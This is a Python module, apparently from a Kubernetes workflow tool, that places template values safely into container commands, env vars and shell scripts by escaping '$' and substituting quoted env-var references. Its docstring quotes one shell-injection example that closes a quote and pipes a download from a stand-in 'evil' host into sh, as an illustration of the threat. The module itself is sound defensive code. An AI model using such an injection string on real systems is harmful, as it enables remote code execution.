"""Where the value of each ``{{ }}`` lands in a container's command, args and env (issue 14).

A value comes from whoever called a webhook, a trigger's object, an input or a task's outputs;
the template around it comes from the Flow's author. Rendered as plain text into a command, a
value could close a quote and run shell (``"; curl evil | sh; "``), and ``$(VAR)`` in it would be
expanded by the kubelet (an env secret of the task printed for the caller). So while rendering a
container's fields, every ``{{ }}`` value is recorded and stands in the text as a placeholder,
and once the whole field is rendered:

- ``KubeletText`` (python scripts, container command and args, env values) writes each value back
  with ``$`` doubled: the kubelet reads ``$$`` as ``$`` and expands nothing in it;
- ``ShellScript`` (shell ``commands``) writes a value made only of letters, digits and
  ``@%+:,./-_`` as it is (``42``, ``2026-01-31``, ``s3://b/k``), and any other value as a
  reference to an env var holding it (``"${OVERTURE_VALUE_1}"``), quoted for where it stands:
  outside quotes, inside double quotes or inside single quotes (closed, the reference, reopened).
  The shell expands a variable's value without reading it as code again, so a value can never
  become a command. The lexer knows quotes, backslashes and comments; in a heredoc or a
  ``$(...)`` inside double quotes it may quote a reference wrongly, which changes the text
  (quotes or a literal ``${...}``), never what runs.

``{{ secret('name', 'key') }}`` standing alone is a secret's env var: the kubelet reference
``$(VAR)`` as before in ``KubeletText``, the shell's ``${VAR}`` in ``ShellScript``. A secret
reference inside a bigger value (``{{ 'x' ~ secret(...) }}``) is plain text like the rest.
Outside a placement (conditions, trigger inputs, file contents) values render as they are.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from contextvars import ContextVar
from typing import Any

VALUE_ENV_PREFIX = "OVERTURE_VALUE_"
_MARK = "\x00"
_PLACEHOLDER = re.compile(_MARK + r"(\d+)" + _MARK)
_SHELL_SAFE = re.compile(r"[A-Za-z0-9_@%+:,./-]*")


class SecretReference(str):
    """``$(VAR)``: what ``secret()`` returns; ``var`` is the env var holding the secret."""

    var: str

    def __new__(cls, var: str) -> SecretReference:
        ref = super().__new__(cls, f"$({var})")
        ref.var = var
        return ref


class Placement:
    """The values of one field's ``{{ }}``s, recorded while it renders; ``finish`` writes them back."""

    def __init__(self) -> None:
        self.values: list[str | SecretReference] = []

    def place(self, value: Any) -> str:
        """The placeholder standing for ``value`` (a value made of earlier ones, as a ``{% set %}``
        block is, is restored first and becomes one value)."""
        if not isinstance(value, SecretReference):
            value = self._restored(str(value))
        self.values.append(value)
        return f"{_MARK}{len(self.values) - 1}{_MARK}"

    def value(self, index: str) -> str | SecretReference | None:
        """The value a placeholder stands for (``None``: not one of ours, e.g. a NUL in the text)."""
        return self.values[int(index)] if int(index) < len(self.values) else None

    def _restored(self, text: str) -> str:
        def value(match: re.Match[str]) -> str:
            found = self.value(match.group(1))
            return match.group(0) if found is None else str(found)

        return _PLACEHOLDER.sub(value, text)


class KubeletText(Placement):
    """Values written back with ``$`` doubled, so the kubelet expands none of them."""

    def finish(self, text: str) -> str:
        def written(match: re.Match[str]) -> str:
            value = self.value(match.group(1))
            if value is None:
                return match.group(0)
            return value if isinstance(value, SecretReference) else kubelet_escaped(value)

        return _PLACEHOLDER.sub(written, text)


class ShellScript(Placement):
    """Values written back as shell-safe text or env var references (``env``: name -> value)."""

    def __init__(self) -> None:
        super().__init__()
        self.env: dict[str, str] = {}
        self._names: dict[str, str] = {}

    def finish(self, script: str) -> str:
        out: list[str] = []
        for piece, quoting in _lex(script):
            value = None if quoting is None else self.value(piece)
            if value is None:
                out.append(piece if quoting is None else f"{_MARK}{piece}{_MARK}")
            else:
                out.append(_quoted(self._word(value), quoting or ""))
        return "".join(out)

    def _word(self, value: str | SecretReference) -> str | None:
        """The text itself when it is safe as it is, else the name of the env var that holds it."""
        if isinstance(value, SecretReference):
            return "$" + value.var
        if _SHELL_SAFE.fullmatch(value):
            return None if value == "" else value
        name = self._names.get(value)
        if name is None:
            name = self._names[value] = f"{VALUE_ENV_PREFIX}{len(self._names) + 1}"
            self.env[name] = value
        return "$" + name


def _quoted(word: str | None, quoting: str) -> str:
    if word is None:
        return ""
    if not word.startswith("$"):
        return word
    ref = "${" + word[1:] + "}"
    return {"'": f"'\"{ref}\"'", '"': ref}.get(quoting, f'"{ref}"')


_WORD_START = frozenset(" \t\n;&|()<>")


def _lex(script: str) -> Iterator[tuple[str, str | None]]:
    """The script in pieces: text (``None``), or a placeholder's index with the quoting it stands
    in: ``""`` (none, or a comment), ``'"'`` or ``"'"``. Quotes, backslashes and ``#`` comments
    are followed."""
    quote = ""  # "'", '"', "#" (a comment, to the end of the line) or ""
    start = i = 0
    while i < len(script):
        c = script[i]
        placeholder = _PLACEHOLDER.match(script, i) if c == _MARK else None
        if placeholder is not None:
            yield script[start:i], None
            yield placeholder.group(1), "" if quote == "#" else quote
            start = i = placeholder.end()
            continue
        if quote == "#":
            quote = "" if c == "\n" else quote
        elif quote == "'":
            quote = "" if c == "'" else quote
        elif c == "\\":
            if script[i + 1 : i + 2] not in ("", _MARK):
                i += 1  # the next character is taken as it is
        elif quote == '"':
            quote = "" if c == '"' else quote
        elif c in "'\"":
            quote = c
        elif c == "#" and (i == 0 or script[i - 1] in _WORD_START):
            quote = "#"
        i += 1
    yield script[start:], None


def kubelet_escaped(text: str) -> str:
    """``text`` as the kubelet writes it back in a command, an arg or an env value: ``$$`` is ``$``."""
    return text.replace("$", "$$")


_PLACEMENT: ContextVar[Placement | None] = ContextVar("overture_placement", default=None)


def placed(value: Any) -> Any:
    """A ``{{ }}`` value as it goes into the output: its placeholder inside a placement."""
    placement = _PLACEMENT.get()
    return value if placement is None else placement.place(value)


@contextmanager
def placing(placement: Placement | None) -> Iterator[Placement | None]:
    """Values of the ``{{ }}``s rendered inside go to ``placement`` (``None``: as they are)."""
    token = _PLACEMENT.set(placement)
    try:
        yield placement
    finally:
        _PLACEMENT.reset(token)
